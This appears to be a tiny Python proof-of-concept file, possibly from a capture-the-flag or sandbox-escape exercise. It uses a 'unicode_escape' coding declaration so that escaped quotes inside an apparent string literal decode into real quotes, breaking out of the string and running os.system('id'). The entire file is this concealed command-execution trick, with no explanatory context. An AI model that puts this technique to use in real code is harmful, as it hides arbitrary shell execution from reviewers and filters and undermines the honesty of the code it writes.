# coding: unicode_escape
"\x22+__import__('os').system('id')+\x22"
